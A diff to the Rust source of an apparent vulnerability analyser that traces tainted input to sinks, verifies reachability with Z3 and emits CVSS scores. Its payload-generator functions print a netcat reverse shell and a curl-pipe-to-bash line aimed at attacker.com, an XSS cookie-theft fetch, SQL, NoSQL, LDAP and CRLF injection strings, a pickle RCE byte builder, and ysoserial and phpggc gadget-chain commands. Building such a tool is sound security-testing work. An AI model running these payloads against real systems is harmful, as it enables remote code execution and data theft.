@@ -5,18 +5,35 @@
 
 use super::{
     python_parser::PythonParser,
-    slicer::BackwardSlicer,
-    constraint_gen::ConstraintGenerator,
+    slicer::{is_local_source, BackwardSlicer, BranchCondition, Condition, TaintConfig},
+    constraint_gen::{condition_vars, injection_markers, ConstraintGenerator},
+    cvss::{self, AttackComplexity, AttackVector, CvssVector},
     solver::Z3Solver,
-    AnalysisResult, ExploitStatus, Sink, SinkType, PathNode,
+    go_analyzer::GoAnalyzer,
+    java_analyzer::JavaAnalyzer,
+    php_analyzer::PhpAnalyzer,
+    AnalysisResult, ExploitStatus, Language, Sink, SinkType, PathNode,
 };
+use base64::Engine;
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use std::path::PathBuf;
 use std::time::Instant;
 
+/// Command run by generated proof-of-concept payloads unless overridden
+pub const DEFAULT_PAYLOAD_COMMAND: &str = "id";
+
 /// The main Exploit Prover engine
 pub struct ExploitProver {
     parser: PythonParser,
+    go: GoAnalyzer,
+    php: PhpAnalyzer,
+    java: JavaAnalyzer,
     constraint_gen: ConstraintGenerator,
     solver: Z3Solver,
+    taint_config: TaintConfig,
+    /// Command embedded in command, code and deserialization payloads
+    payload_command: String,
 }
 
 impl ExploitProver {
@@ -24,11 +41,31 @@ impl ExploitProver {
     pub fn new() -> Result<Self, String> {
         Ok(Self {
             parser: PythonParser::new()?,
+            go: GoAnalyzer::new()?,
+            php: PhpAnalyzer::new()?,
+            java: JavaAnalyzer::new()?,
             constraint_gen: ConstraintGenerator::new(),
             solver: Z3Solver::new(),
+            taint_config: TaintConfig::default(),
+            payload_command: DEFAULT_PAYLOAD_COMMAND.to_string(),
         })
     }
 
+    /// Run `command` instead of `id` in generated payloads
+    pub fn with_payload_command(mut self, command: impl Into<String>) -> Self {
+        let command = command.into();
+        if !command.trim().is_empty() {
+            self.payload_command = command;
+        }
+        self
+    }
+
+    /// Choose which optional sources (environment, config files) count as user input
+    pub fn with_taint_config(mut self, config: TaintConfig) -> Self {
+        self.taint_config = config;
+        self
+    }
+
     /// Analyze a Python source file for exploitable vulnerabilities
     pub fn analyze(&mut self, source: &str) -> AnalysisResult {
         let start = Instant::now();
@@ -73,20 +110,31 @@ impl ExploitProver {
         };
 
         // Step 3: Backward slice from each sink
-        let mut slicer = BackwardSlicer::new();
+        let mut slicer = BackwardSlicer::with_config(self.taint_config);
         slicer.analyze(source, &tree);
 
         let mut exploitable_sinks = Vec::new();
         let mut attack_paths = Vec::new();
         let mut z3_proof_model = None;
+        let mut path_conditions = Vec::new();
+        let mut constrained = Vec::new();
 
         for sink in &sinks {
             if let Some(path) = slicer.trace_to_entry_point(sink, source) {
                 // Heuristic Check Passed. Now Verify with Z3.
-                
-                // Only use Z3 for SQL Injection in MVP (as implemented in constraint_gen)
-                let is_verified = if sink.sink_type == SinkType::SqlInjection {
-                    let smt_script = self.constraint_gen.generate_smt(&path, &sink.code_snippet);
+                let conditions = slicer.conditions_at(sink.line);
+                let sink_var = sink
+                    .tainted_vars
+                    .iter()
+                    .find(|v| slicer.is_tainted(v))
+                    .cloned()
+                    .unwrap_or_else(|| sink.code_snippet.clone());
+                let allowed = self.constraint_gen.allowed_values(&conditions, &sink_var);
+
+                // SQL injection is always checked with Z3; other sinks only when
+                // branch conditions on the path might make them unreachable
+                let is_verified = if sink.sink_type == SinkType::SqlInjection || !conditions.is_empty() {
+                    let smt_script = self.constraint_gen.generate_smt_for(&path, &sink_var, &sink.sink_type, &conditions);
                     match self.solver.solve(&smt_script) {
                         Ok(Some(model)) => {
                             z3_proof_model = Some(model);
@@ -95,16 +143,43 @@ impl ExploitProver {
                         Ok(None) => false, // UNSAT (Safe/False Positive)
                         Err(e) => {
                             eprintln!("Z3 Verification Failed: {}", e);
-                            true // Fallback to heuristic on error
+                            // An allowlist that pins the input can still be decided without Z3
+                            match &allowed {
+                                Some(values) => reaches_marker(values, &sink.sink_type),
+                                None => true, // Fallback to heuristic on error
+                            }
                         }
                     }
                 } else {
-                    true // Skip Z3 for other types in MVP
+                    true
                 };
 
                 if is_verified {
-                    exploitable_sinks.push(sink.clone());
+                    let mut sink = sink.clone();
+                    sink.cvss = Some(score_sink(&sink, &slicer, &conditions).score());
+                    exploitable_sinks.push(sink);
                     attack_paths.extend(path);
+                    for branch in &conditions {
+                        attack_paths.push(PathNode {
+                            line: branch.line,
+                            cell: None,
+                            code: branch.code.clone(),
+                            description: if branch.holds {
+                                "GUARD: Condition holds on this path".to_string()
+                            } else {
+                                "GUARD: Condition is false on this path".to_string()
+                            },
+                        });
+                        path_conditions.push(branch.clone());
+                    }
+                } else if let Some(values) = allowed {
+                    let quoted: Vec<String> = values.iter().map(|v| format!("'{}'", v)).collect();
+                    constrained.push(format!(
+                        "line {}: only {} reachable for {}",
+                        sink.line,
+                        join_alternatives(&quoted),
+                        sink_var
+                    ));
                 }
             }
         }
@@ -112,8 +187,9 @@ impl ExploitProver {
         // Step 4: Generate payload if exploitable
         if !exploitable_sinks.is_empty() {
             let primary_sink = exploitable_sinks[0].clone();
-            let payload = self.generate_payload(&primary_sink);
+            let payload = self.generate_payload(&primary_sink, &attack_paths);
             
+            let cvss = cvss::highest(exploitable_sinks.iter().filter_map(|s| s.cvss.as_ref()));
             let mut explanation = format!(
                 "EXPLOITABLE: {} detected at line {}. User input flows to this sink without proper sanitization.\n\nProof-of-Concept Payload:\n{}",
                 primary_sink.sink_type.description(),
@@ -121,6 +197,18 @@ impl ExploitProver {
                 payload
             );
 
+            if let Some(score) = &cvss {
+                explanation.push_str(&format!("\n\nSeverity: {} {} ({})", score.score, score.severity, score.vector));
+            }
+
+            if !path_conditions.is_empty() {
+                explanation.push_str("\n\nPath Conditions:");
+                for branch in &path_conditions {
+                    let state = if branch.holds { "true" } else { "false" };
+                    explanation.push_str(&format!("\n  line {}: {} is {}", branch.line, branch.code, state));
+                }
+            }
+
             if let Some(model) = z3_proof_model {
                 explanation.push_str("\n\nMathematical Proof (Z3 Model):\n");
                 explanation.push_str("--------------------------------\n");
@@ -135,24 +223,175 @@ impl ExploitProver {
                 explanation,
                 attack_path: attack_paths,
                 analysis_time_ms: start.elapsed().as_millis() as u64,
+                cvss,
             };
         }
 
         // No exploitable paths found
+        let mut explanation = "SAFE: Dangerous functions detected but no exploitable path from user input found. The code appears to be properly sanitized or uses safe patterns.".to_string();
+        if !constrained.is_empty() {
+            explanation.push_str("\n\nBranch conditions restrict the input:");
+            for note in &constrained {
+                explanation.push_str(&format!("\n  {}", note));
+            }
+        }
+        if !slicer.entry_points().is_empty() {
+            explanation.push_str("\n\nEntry points analyzed:");
+            for entry in slicer.entry_points() {
+                explanation.push_str(&format!("\n  {} (line {}) via {}", entry.function, entry.line, entry.source));
+            }
+        }
+
         AnalysisResult {
             success: true,
             status: ExploitStatus::Safe,
             sinks,
             payload: None,
-            explanation: "SAFE: Dangerous functions detected but no exploitable path from user input found. The code appears to be properly sanitized or uses safe patterns.".to_string(),
+            explanation,
             attack_path: vec![],
             analysis_time_ms: start.elapsed().as_millis() as u64,
+            cvss: None,
+        }
+    }
+
+    /// Analyze source code in the given language
+    pub fn analyze_as(&mut self, language: Language, source: &str) -> AnalysisResult {
+        match language {
+            Language::Python => self.analyze(source),
+            Language::Go => self.analyze_go(source),
+            Language::Php => self.analyze_php(source),
+            Language::Java => self.analyze_java(source),
+        }
+    }
+
+    /// Analyze a Go source file. Flows are traced within functions without
+    /// constraint solving, so every traced sink is reported exploitable.
+    pub fn analyze_go(&mut self, source: &str) -> AnalysisResult {
+        let start = Instant::now();
+        match self.go.analyze(source) {
+            Ok(analysis) => {
+                let flows = analysis
+                    .flows
+                    .into_iter()
+                    .map(|flow| {
+                        let attack_vector = if flow.local { AttackVector::Local } else { AttackVector::Network };
+                        (flow.sink, flow.path, attack_vector)
+                    })
+                    .collect();
+                self.traced_result(Language::Go, start, analysis.sinks, flows)
+            }
+            Err(e) => parse_failure(start, e),
+        }
+    }
+
+    /// Analyze a PHP source file. Like Go, flows from the request
+    /// superglobals are traced without constraint solving.
+    pub fn analyze_php(&mut self, source: &str) -> AnalysisResult {
+        let start = Instant::now();
+        match self.php.analyze(source) {
+            Ok(analysis) => {
+                let flows = analysis
+                    .flows
+                    .into_iter()
+                    .map(|flow| (flow.sink, flow.path, AttackVector::Network))
+                    .collect();
+                self.traced_result(Language::Php, start, analysis.sinks, flows)
+            }
+            Err(e) => parse_failure(start, e),
+        }
+    }
+
+    /// Analyze a Java source file. Flows from Spring handler parameters and
+    /// servlet requests are traced within methods without constraint solving.
+    pub fn analyze_java(&mut self, source: &str) -> AnalysisResult {
+        let start = Instant::now();
+        match self.java.analyze(source) {
+            Ok(analysis) => {
+                let flows = analysis
+                    .flows
+                    .into_iter()
+                    .map(|flow| (flow.sink, flow.path, AttackVector::Network))
+                    .collect();
+                self.traced_result(Language::Java, start, analysis.sinks, flows)
+            }
+            Err(e) => parse_failure(start, e),
+        }
+    }
+
+    /// Result for sinks and traced flows found without constraint solving
+    fn traced_result(
+        &self,
+        language: Language,
+        start: Instant,
+        sinks: Vec<Sink>,
+        flows: Vec<(Sink, Vec<PathNode>, AttackVector)>,
+    ) -> AnalysisResult {
+        if sinks.is_empty() {
+            return AnalysisResult {
+                success: true,
+                status: ExploitStatus::NoSinksFound,
+                explanation: "No dangerous function calls (sinks) detected in this code.".to_string(),
+                analysis_time_ms: start.elapsed().as_millis() as u64,
+                ..Default::default()
+            };
+        }
+
+        if flows.is_empty() {
+            return AnalysisResult {
+                success: true,
+                status: ExploitStatus::Safe,
+                sinks,
+                explanation: "SAFE: Dangerous functions detected but no exploitable path from user input found. The code appears to be properly sanitized or uses safe patterns.".to_string(),
+                analysis_time_ms: start.elapsed().as_millis() as u64,
+                ..Default::default()
+            };
+        }
+
+        let mut exploitable_sinks = Vec::new();
+        let mut attack_path = Vec::new();
+        for (mut sink, path, attack_vector) in flows {
+            sink.cvss = Some(CvssVector::for_sink(&sink.sink_type, attack_vector, AttackComplexity::Low).score());
+            exploitable_sinks.push(sink);
+            attack_path.extend(path);
+        }
+
+        let primary_sink = exploitable_sinks[0].clone();
+        let payload = match language {
+            Language::Php => self.generate_php_payload(&primary_sink, &attack_path),
+            Language::Java => self.generate_java_payload(&primary_sink, &attack_path),
+            _ => self.generate_payload(&primary_sink, &attack_path),
+        };
+        let cvss = cvss::highest(exploitable_sinks.iter().filter_map(|s| s.cvss.as_ref()));
+        let mut explanation = format!(
+            "EXPLOITABLE: {} detected at line {}. User input flows to this sink without proper sanitization.\n\nProof-of-Concept Payload:\n{}",
+            primary_sink.sink_type.description(),
+            primary_sink.line,
+            payload
+        );
+        if let Some(score) = &cvss {
+            explanation.push_str(&format!("\n\nSeverity: {} {} ({})", score.score, score.severity, score.vector));
+        }
+
+        AnalysisResult {
+            success: true,
+            status: ExploitStatus::Exploitable,
+            sinks: exploitable_sinks,
+            payload: Some(payload),
+            explanation,
+            attack_path,
+            analysis_time_ms: start.elapsed().as_millis() as u64,
+            cvss,
         }
     }
 
     /// Analyze a specific line/region of code
     pub fn analyze_at_line(&mut self, source: &str, target_line: usize) -> AnalysisResult {
-        let mut result = self.analyze(source);
+        self.analyze_at_line_as(Language::Python, source, target_line)
+    }
+
+    /// Analyze a specific line/region of code in the given language
+    pub fn analyze_at_line_as(&mut self, language: Language, source: &str, target_line: usize) -> AnalysisResult {
+        let mut result = self.analyze_as(language, source);
         
         // Filter sinks to only those at or near the target line
         result.sinks.retain(|s| {
@@ -171,18 +410,170 @@ impl ExploitProver {
     }
 
     /// Generate an exploit payload based on the sink type
-    fn generate_payload(&self, sink: &Sink) -> String {
+    fn generate_payload(&self, sink: &Sink, path: &[PathNode]) -> String {
         match sink.sink_type {
-            SinkType::SqlInjection => self.generate_sql_payload(sink),
+            SinkType::SqlInjection => self.generate_sql_payload(sink, path),
             SinkType::CommandInjection => self.generate_command_payload(sink),
             SinkType::CodeInjection => self.generate_code_payload(sink),
             SinkType::PathTraversal => self.generate_path_payload(sink),
             SinkType::Deserialization => self.generate_pickle_payload(sink),
             SinkType::Ssrf => self.generate_ssrf_payload(sink),
             SinkType::Xxe => self.generate_xxe_payload(sink),
+            SinkType::Xss => self.generate_xss_payload(sink),
+            SinkType::OpenRedirect => self.generate_redirect_payload(sink),
+            SinkType::HeaderInjection => self.generate_header_payload(sink),
+            SinkType::NoSqlInjection => self.generate_nosql_payload(sink),
+            SinkType::LdapInjection => self.generate_ldap_payload(sink),
         }
     }
 
+    fn generate_nosql_payload(&self, sink: &Sink) -> String {
+        format!(
+            r#"NoSQL Injection Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Operator Injection (JSON body):
+  {{"username": "admin", "password": {{"$ne": null}}}}
+  {{"username": {{"$gt": ""}}, "password": {{"$gt": ""}}}}
+
+Operator Injection (form / query string):
+  username=admin&password[$ne]=x
+
+Regex Extraction:
+  {{"username": "admin", "password": {{"$regex": "^a"}}}}
+
+$where JavaScript:
+  '; return true; var x='
+  this.password.match(/^a/) || sleep(5000)
+
+Example HTTP Request:
+  POST /login HTTP/1.1
+  Host: target.com
+  Content-Type: application/json
+
+  {{"username": "admin", "password": {{"$ne": null}}}}
+"#,
+            sink.code_snippet.trim(),
+            sink.line
+        )
+    }
+
+    fn generate_ldap_payload(&self, sink: &Sink) -> String {
+        format!(
+            r#"LDAP Injection Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Wildcard Match:
+  *
+
+Authentication Bypass:
+  *)(uid=*))(|(uid=*
+  admin)(&)
+
+Attribute Enumeration:
+  *)(|(objectClass=*)
+  admin)(|(description=*
+
+Blind Extraction:
+  admin)(userPassword=a*
+
+Example HTTP Request:
+  GET /lookup?user={} HTTP/1.1
+  Host: target.com
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            urlencoding::encode("*)(uid=*))(|(uid=*")
+        )
+    }
+
+    fn generate_redirect_payload(&self, sink: &Sink) -> String {
+        format!(
+            r#"Open Redirect Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Absolute URL:
+  https://attacker.com/login
+
+Protocol-Relative (bypasses "starts with /" checks):
+  //attacker.com/login
+  /\attacker.com/login
+
+Scheme Confusion:
+  https:attacker.com
+  javascript:alert(document.domain)
+
+Example HTTP Request:
+  GET /login?next={} HTTP/1.1
+  Host: target.com
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            urlencoding::encode("//attacker.com/login")
+        )
+    }
+
+    fn generate_header_payload(&self, sink: &Sink) -> String {
+        format!(
+            r#"Header Injection (CRLF) Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Inject a Header:
+  value%0d%0aSet-Cookie:%20session=attacker
+
+Response Splitting:
+  value%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
+
+Redirect via Location:
+  value%0d%0aLocation:%20https://attacker.com
+
+Example HTTP Request:
+  GET /?lang=en%0d%0aSet-Cookie:%20admin=true HTTP/1.1
+  Host: target.com
+"#,
+            sink.code_snippet.trim(),
+            sink.line
+        )
+    }
+
+    fn generate_xss_payload(&self, sink: &Sink) -> String {
+        let payloads = [
+            "<script>alert(document.domain)</script>",
+            "\"><img src=x onerror=alert(document.cookie)>",
+            "<svg onload=fetch('//attacker.com/?c='+document.cookie)>",
+        ];
+
+        format!(
+            r#"Reflected XSS Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Script Injection:
+  {}
+
+Attribute Breakout:
+  {}
+
+Cookie Theft:
+  {}
+
+Example HTTP Request:
+  GET /?name={} HTTP/1.1
+  Host: target.com
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            payloads[0],
+            payloads[1],
+            payloads[2],
+            urlencoding::encode(payloads[0])
+        )
+    }
+
     fn generate_ssrf_payload(&self, sink: &Sink) -> String {
         format!(
             r#"SSRF Payloads:
@@ -217,19 +608,39 @@ SSRF via XXE:
         )
     }
 
-    fn generate_sql_payload(&self, sink: &Sink) -> String {
-        let payloads = vec![
-            "' OR '1'='1' --",
-            "' OR '1'='1'/*",
-            "1; DROP TABLE users; --",
-            "' UNION SELECT username, password FROM users --",
-            "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a) --",
-        ];
+    /// SQL payloads that close the literal the input lands in, judged from
+    /// the query text at the sink or on the path to it
+    fn generate_sql_payload(&self, sink: &Sink, path: &[PathNode]) -> String {
+        let context = std::iter::once(sink.code_snippet.as_str())
+            .chain(path.iter().rev().map(|node| node.code.as_str()))
+            .find_map(sql_context);
+
+        let (description, bypass, union, blind) = match context {
+            Some(SqlContext::Numeric) => (
+                "numeric (input is not quoted)".to_string(),
+                "1 OR 1=1 --".to_string(),
+                "0 UNION SELECT username, password FROM users --".to_string(),
+                "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)".to_string(),
+            ),
+            quoted => {
+                let (quote, description) = match quoted {
+                    Some(SqlContext::Quoted(quote)) => (quote, format!("string literal quoted with {}", quote)),
+                    _ => ('\'', "unknown (assuming a single-quoted string)".to_string()),
+                };
+                (
+                    description,
+                    format!("{q} OR {q}1{q}={q}1{q} --", q = quote),
+                    format!("{} UNION SELECT username, password FROM users --", quote),
+                    format!("1{} AND (SELECT * FROM (SELECT(SLEEP(5)))a) --", quote),
+                )
+            }
+        };
 
         format!(
             r#"SQL Injection Payloads:
 ─────────────────────────────────────────
 Target: {} (line {})
+Query Context: {}
 
 Authentication Bypass:
   {}
@@ -246,54 +657,44 @@ Example HTTP Request:
 "#,
             sink.code_snippet.trim(),
             sink.line,
-            payloads[0],
-            payloads[3],
-            payloads[4],
-            urlencoding::encode(payloads[0])
+            description,
+            bypass,
+            union,
+            blind,
+            urlencoding::encode(&bypass)
         )
     }
 
     fn generate_command_payload(&self, sink: &Sink) -> String {
-        let payloads = vec![
-            "; id",
-            "; cat /etc/passwd",
-            "| nc attacker.com 4444 -e /bin/sh",
-            "`whoami`",
-            "$(curl http://attacker.com/shell.sh | bash)",
-        ];
-
+        let command = &self.payload_command;
         format!(
             r#"Command Injection Payloads:
 ─────────────────────────────────────────
 Target: {} (line {})
 
 Basic Command Execution:
-  {}
+  ; {}
 
 Reverse Shell:
-  {}
+  | nc attacker.com 4444 -e /bin/sh
 
 Out-of-Band Data Exfiltration:
-  {}
+  $(curl http://attacker.com/shell.sh | bash)
 
 Example Input:
-  127.0.0.1{}
+  127.0.0.1; {}
 "#,
             sink.code_snippet.trim(),
             sink.line,
-            payloads[0],
-            payloads[2],
-            payloads[4],
-            payloads[0]
+            command,
+            command
         )
     }
 
     fn generate_code_payload(&self, sink: &Sink) -> String {
-        let payloads = vec![
-            "__import__('os').system('id')",
-            "__import__('subprocess').check_output(['cat', '/etc/passwd'])",
-            "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
-        ];
+        let command = python_string(&self.payload_command);
+        let obfuscated = base64::engine::general_purpose::STANDARD
+            .encode(format!("import os; os.system({})", command));
 
         format!(
             r#"Code Injection Payloads:
@@ -301,19 +702,18 @@ Example Input:
 Target: {} (line {})
 
 Basic Code Execution:
-  {}
+  __import__('os').system({})
 
 File Read:
-  {}
+  __import__('subprocess').check_output(['cat', '/etc/passwd'])
 
 Obfuscated Payload:
-  {}
+  exec(__import__('base64').b64decode('{}'))
 "#,
             sink.code_snippet.trim(),
             sink.line,
-            payloads[0],
-            payloads[1],
-            payloads[2]
+            command,
+            obfuscated
         )
     }
 
@@ -340,6 +740,9 @@ Null Byte (legacy):
     }
 
     fn generate_pickle_payload(&self, sink: &Sink) -> String {
+        let command = python_string(&self.payload_command);
+        let payload = base64::engine::general_purpose::STANDARD.encode(pickle_rce_payload(&self.payload_command));
+
         format!(
             r#"Insecure Deserialization Payloads:
 ─────────────────────────────────────────
@@ -352,22 +755,542 @@ Python Pickle RCE:
 
   class Exploit:
       def __reduce__(self):
-          return (os.system, ('id',))
+          return (os.system, ({},))
 
   payload = base64.b64encode(pickle.dumps(Exploit())).decode()
   print(payload)
 
-Generated Base64 Payload:
-  gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
+Generated Base64 Payload (runs os.system({})):
+  {}
 
-Send this as the serialized data to trigger code execution.
+Send this as the serialized data to trigger code execution, e.g.
+  pickle.loads(base64.b64decode('{}'))
 "#,
             sink.code_snippet.trim(),
-            sink.line
+            sink.line,
+            command,
+            command,
+            payload,
+            payload
+        )
+    }
+
+    /// PHP payloads where they differ from the generic ones: code runs as
+    /// PHP, includes take stream wrappers and unserialize builds objects
+    fn generate_php_payload(&self, sink: &Sink, path: &[PathNode]) -> String {
+        match sink.sink_type {
+            SinkType::CodeInjection => self.generate_php_code_payload(sink),
+            SinkType::Deserialization => self.generate_php_object_payload(sink),
+            SinkType::PathTraversal if is_php_include(&sink.code_snippet) => self.generate_php_include_payload(sink),
+            _ => self.generate_payload(sink, path),
+        }
+    }
+
+    /// Java payloads where they differ from the generic ones:
+    /// Runtime.exec runs without a shell and deserialization needs a gadget chain
+    fn generate_java_payload(&self, sink: &Sink, path: &[PathNode]) -> String {
+        match sink.sink_type {
+            SinkType::Deserialization => self.generate_java_object_payload(sink),
+            SinkType::CommandInjection if sink.code_snippet.contains("exec(") => self.generate_java_exec_payload(sink),
+            _ => self.generate_payload(sink, path),
+        }
+    }
+
+    fn generate_java_exec_payload(&self, sink: &Sink) -> String {
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&self.payload_command);
+
+        format!(
+            r#"Java Command Injection Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Runtime.exec(String) splits on whitespace and runs no shell, so
+metacharacters like ; and | are passed through literally.
+
+Argument Injection (the injected text becomes extra arguments):
+  127.0.0.1 -c 1 -p 41414141
+
+Shell Without Spaces (when the injection is the program itself):
+  bash -c {{echo,{}}}|{{base64,-d}}|{{bash,-i}}
+
+Shell Metacharacters (when the command is sh -c / cmd /c):
+  ; {}
+  $({})
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            encoded,
+            self.payload_command,
+            self.payload_command
+        )
+    }
+
+    fn generate_java_object_payload(&self, sink: &Sink) -> String {
+        let command = &self.payload_command;
+
+        format!(
+            r#"Java Deserialization Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Detection:
+  Serialized Java objects start with AC ED 00 05 (base64 "rO0AB").
+  A URLDNS chain confirms deserialization without a vulnerable library:
+  java -jar ysoserial.jar URLDNS 'http://probe.attacker.com' | base64
+
+Gadget Chains (ysoserial, pick one matching the classpath):
+  java -jar ysoserial.jar CommonsCollections6 '{}' | base64
+  java -jar ysoserial.jar CommonsBeanutils1 '{}' | base64
+  java -jar ysoserial.jar Spring1 '{}' | base64
+
+Send the raw bytes as the request body, or the base64 where the
+application decodes it first.
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            command,
+            command,
+            command
+        )
+    }
+
+    fn generate_php_code_payload(&self, sink: &Sink) -> String {
+        // PHP reads single-quoted literals with the same escapes as Python
+        let command = python_string(&self.payload_command);
+        let obfuscated = base64::engine::general_purpose::STANDARD.encode(format!("system({});", command));
+
+        format!(
+            r#"PHP Code Injection Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Basic Code Execution:
+  system({});
+
+File Read:
+  echo file_get_contents('/etc/passwd');
+
+Obfuscated Payload:
+  eval(base64_decode('{}'));
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            command,
+            obfuscated
+        )
+    }
+
+    fn generate_php_include_payload(&self, sink: &Sink) -> String {
+        let shell = base64::engine::general_purpose::STANDARD
+            .encode(format!("<?php system({}); ?>", python_string(&self.payload_command)));
+
+        format!(
+            r#"PHP File Inclusion Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Local File Inclusion:
+  ../../../../etc/passwd
+  ../../../../etc/passwd%00 (PHP < 5.3.4, defeats an appended extension)
+
+Source Disclosure:
+  php://filter/convert.base64-encode/resource=index.php
+
+Code Execution (allow_url_include=On):
+  data://text/plain;base64,{}
+  http://attacker.com/shell.txt
+
+Example HTTP Request:
+  GET /index.php?page={} HTTP/1.1
+  Host: target.com
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            shell,
+            urlencoding::encode("php://filter/convert.base64-encode/resource=index.php")
+        )
+    }
+
+    fn generate_php_object_payload(&self, sink: &Sink) -> String {
+        let command = &self.payload_command;
+
+        format!(
+            r#"PHP Object Injection Payloads:
+─────────────────────────────────────────
+Target: {} (line {})
+
+Probe (any class can be instantiated):
+  O:8:"stdClass":1:{{s:5:"probe";s:2:"ok";}}
+
+Gadget Chains (phpggc, pick one matching the application's libraries):
+  phpggc Monolog/RCE1 system '{}'
+  phpggc Laravel/RCE1 system '{}'
+  phpggc Guzzle/RCE1 system '{}'
+
+Application Classes:
+  Look for __wakeup, __destruct or __toString methods reaching file,
+  SQL or shell calls, and serialize an instance with the properties
+  they read set to attacker values.
+"#,
+            sink.code_snippet.trim(),
+            sink.line,
+            command,
+            command,
+            command
         )
     }
 }
 
+/// Pickle (protocol 2) whose loading calls `os.system(command)`:
+/// PROTO 2, GLOBAL os.system, BINUNICODE command, TUPLE1, REDUCE, STOP
+pub fn pickle_rce_payload(command: &str) -> Vec<u8> {
+    let mut bytes = vec![0x80, 0x02];
+    bytes.extend_from_slice(b"cos\nsystem\n");
+    bytes.push(b'X');
+    bytes.extend_from_slice(&(command.len() as u32).to_le_bytes());
+    bytes.extend_from_slice(command.as_bytes());
+    bytes.extend_from_slice(&[0x85, b'R', b'.']);
+    bytes
+}
+
+/// Result for source the parser rejected
+fn parse_failure(start: Instant, error: String) -> AnalysisResult {
+    AnalysisResult {
+        success: false,
+        status: ExploitStatus::Inconclusive,
+        explanation: format!("Parse error: {}", error),
+        analysis_time_ms: start.elapsed().as_millis() as u64,
+        ..Default::default()
+    }
+}
+
+/// Whether a PHP sink is an include or require of a file
+fn is_php_include(code: &str) -> bool {
+    ["include", "require"].iter().any(|kw| code.trim_start().starts_with(kw))
+}
+
+/// A single-quoted Python string literal for `value`
+fn python_string(value: &str) -> String {
+    format!("'{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
+}
+
+/// Where user input lands in a SQL query
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum SqlContext {
+    /// Inside a string literal delimited by this quote
+    Quoted(char),
+    /// Bare, as a number or column value without quotes
+    Numeric,
+}
+
+/// A Python string literal found in a line of code
+struct PyLiteral {
+    /// Byte range of the literal's contents, without prefix and quotes
+    start: usize,
+    end: usize,
+    /// The Python delimiter, `'` or `"`
+    delimiter: char,
+    formatted: bool,
+    /// Whether `+` follows the literal, making its end an insertion point
+    concatenated: bool,
+}
+
+/// Quote context of the first interpolated value in a line that builds a
+/// SQL query with an f-string, `%s`/`{}` formatting or concatenation
+fn sql_context(code: &str) -> Option<SqlContext> {
+    let upper = code.to_uppercase();
+    if !["SELECT ", "INSERT ", "UPDATE ", "DELETE ", "WHERE "].iter().any(|kw| upper.contains(kw)) {
+        return None;
+    }
+
+    for literal in python_literals(code) {
+        let content = &code[literal.start..literal.end];
+        let insertion = if literal.formatted {
+            content.match_indices('{').find(|(i, _)| !content[i + 1..].starts_with('{')).map(|(i, _)| i)
+        } else {
+            content.find("%s").or_else(|| content.find("{}"))
+        };
+        let insertion = insertion.or(literal.concatenated.then_some(content.len()));
+        let Some(position) = insertion else {
+            continue;
+        };
+
+        // SQL quotes are the ones the Python literal does not use; an odd
+        // number of them before the insertion point means it is inside one
+        let sql_quote = if literal.delimiter == '"' { '\'' } else { '"' };
+        let open = content[..position].matches(sql_quote).count() % 2 == 1;
+        return Some(if open { SqlContext::Quoted(sql_quote) } else { SqlContext::Numeric });
+    }
+    None
+}
+
+fn python_literals(code: &str) -> Vec<PyLiteral> {
+    let bytes = code.as_bytes();
+    let mut literals = Vec::new();
+    let mut i = 0;
+    while i < bytes.len() {
+        let delimiter = bytes[i];
+        if delimiter != b'\'' && delimiter != b'"' {
+            i += 1;
+            continue;
+        }
+        let prefix_start = code[..i]
+            .rfind(|c: char| !c.is_ascii_alphabetic())
+            .map_or(0, |p| p + 1);
+        let formatted = code[prefix_start..i].contains(['f', 'F']);
+        let quote_len = if bytes[i..].starts_with(&[delimiter; 3]) { 3 } else { 1 };
+        let start = i + quote_len;
+
+        let mut j = start;
+        let mut end = bytes.len();
+        while j < bytes.len() {
+            if bytes[j] == b'\\' {
+                j += 2;
+                continue;
+            }
+            if bytes[j..].starts_with(&bytes[i..start]) {
+                end = j;
+                break;
+            }
+            j += 1;
+        }
+        let after = (end + quote_len).min(bytes.len());
+        literals.push(PyLiteral {
+            start,
+            end,
+            delimiter: delimiter as char,
+            formatted,
+            concatenated: code[after..].trim_start().starts_with('+'),
+        });
+        i = after;
+    }
+    literals
+}
+
+/// Whether any of the values an input is limited to carries an injection marker
+fn reaches_marker(values: &[String], sink_type: &SinkType) -> bool {
+    let markers = injection_markers(sink_type);
+    values.iter().any(|v| markers.is_empty() || markers.iter().any(|m| v.contains(m)))
+}
+
+/// "'a'", "'a' or 'b'", "'a', 'b' or 'c'"
+/// CVSS vector of a proven sink: network reachable unless every source of
+/// its input is local, and high complexity when the path also needs
+/// conditions outside the attacker's control
+fn score_sink(sink: &Sink, slicer: &BackwardSlicer, conditions: &[BranchCondition]) -> CvssVector {
+    let sources: Vec<String> = sink
+        .tainted_vars
+        .iter()
+        .filter(|v| slicer.is_tainted(v))
+        .flat_map(|v| slicer.input_sources(v))
+        .collect();
+    let attack_vector = if !sources.is_empty() && sources.iter().all(|s| is_local_source(s)) {
+        AttackVector::Local
+    } else {
+        AttackVector::Network
+    };
